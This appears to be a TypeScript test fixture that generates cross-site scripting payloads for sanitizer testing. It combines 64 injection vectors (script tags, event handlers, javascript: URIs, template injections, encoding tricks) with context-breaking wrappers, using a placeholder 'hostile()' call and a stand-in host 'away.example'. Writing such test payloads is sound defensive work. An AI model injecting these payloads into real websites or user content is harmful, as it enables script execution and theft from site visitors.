/** What a page that lets a script in would call; the test hears of it. */
const CALL = 'hostile()';
const AWAY = 'http://away.example/x';

/** Ways to have a browser run or fetch something, each with a place for code or an address. */
const VECTORS: readonly string[] = [
  `<script>${CALL}</script>`,
  `<script src="${AWAY}.js"></script>`,
  `<ScRiPt>${CALL}</sCrIpT>`,
  `<script/x>${CALL}</script>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<img src=x onerror=${CALL}>`,
  `<img src="${AWAY}.png">`,
  `<img src=x onerror="&#104;ostile()">`,
  `<img/src="x"/onerror="${CALL}">`,
  `<img srcset="${AWAY}.png 1x">`,
  `<svg onload=${CALL}>`,
  `<svg/onload=${CALL}//`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<svg><use href="${AWAY}.svg#a"></use></svg>`,
  `<svg><image href="${AWAY}.png"></image></svg>`,
  `<math><mi xlink:href="javascript:${CALL}">x</mi></math>`,
  `<body onload=${CALL}>`,
  `<iframe src="javascript:${CALL}"></iframe>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<iframe src="${AWAY}"></iframe>`,
  `<object data="${AWAY}"></object>`,
  `<object data="javascript:${CALL}"></object>`,
  `<embed src="${AWAY}">`,
  `<link rel=stylesheet href="${AWAY}.css">`,
  `<link rel=prefetch href="${AWAY}">`,
  `<link rel=dns-prefetch href="//away.example">`,
  `<style>@import '${AWAY}.css';</style>`,
  `<style>*{background:url(${AWAY}.png)}</style>`,
  `<div style="background:url(${AWAY}.png)">x</div>`,
  `<base href="${AWAY}/">`,
  `<meta http-equiv=refresh content="0;url=${AWAY}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
  `<form action="${AWAY}"><button autofocus onfocus=${CALL}>go</button></form>`,
  `<input autofocus onfocus=${CALL}>`,
  `<select autofocus onfocus=${CALL}><option>x</select>`,
  `<textarea autofocus onfocus=${CALL}></textarea>`,
  `<details open ontoggle=${CALL}><summary>x</summary></details>`,
  `<video src=x onerror=${CALL}></video>`,
  `<video poster="${AWAY}.png"></video>`,
  `<audio src="${AWAY}.mp3" autoplay></audio>`,
  `<marquee onstart=${CALL}>x</marquee>`,
  `<a href="javascript:${CALL}">press</a>`,
  `<a href="java&#9;script:${CALL}">press</a>`,
  `<a href="data:text/html,<script>${CALL}</script>">press</a>`,
  `javascript:${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `vbscript:${CALL}`,
  `{{constructor.constructor('${CALL}')()}}`,
  '${' + CALL + '}',
  `<%= ${CALL} %>`,
  `#{${CALL}}`,
  `<template><img src=x onerror=${CALL}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>"></noscript>`,
  `<xmp><p title="</xmp><svg onload=${CALL}>"></xmp>`,
  `<div v-html="'<img src=x onerror=${CALL}>'">x</div>`,
  `<component :is="'script'">${CALL}</component>`,
  `<p onpointerenter=${CALL} onmouseover=${CALL}>x</p>`,
  `<isindex type=image src=x onerror=${CALL}>`,
  `\u202e<script>${CALL}</script>\u202c`,
  `\ufeff<img src=x onerror=${CALL}>`,
  `＜script＞${CALL}＜/script＞`,
  `%3Cscript%3E${CALL}%3C/script%3E`,
];

/** Ways to leave whatever a vector is put into. */
const BREAKS: readonly ((vector: string) => string)[] = [
  (vector) => vector,
  (vector) => `"><${vector.replace(/^</, '')}`,
  (vector) => `'>${vector}`,
  (vector) => `" onmouseover="${CALL}" x="${vector}`,
  (vector) => `</title>${vector}`,
  (vector) => `</script>${vector}`,
  (vector) => `--><!-- -->${vector}`,
  (vector) => `]]>${vector}`,
  (vector) => `</textarea></select></style>${vector}`,
];

/** So many hostile texts, by turns, so that few are of many kinds. */
export function payloads(count: number): string[] {
  const all = BREAKS.flatMap((leave) => VECTORS.map(leave));
  const step = 23;
  return [...new Set(all.map((_, i) => all[(i * step) % all.length] as string))].slice(0, count);
}
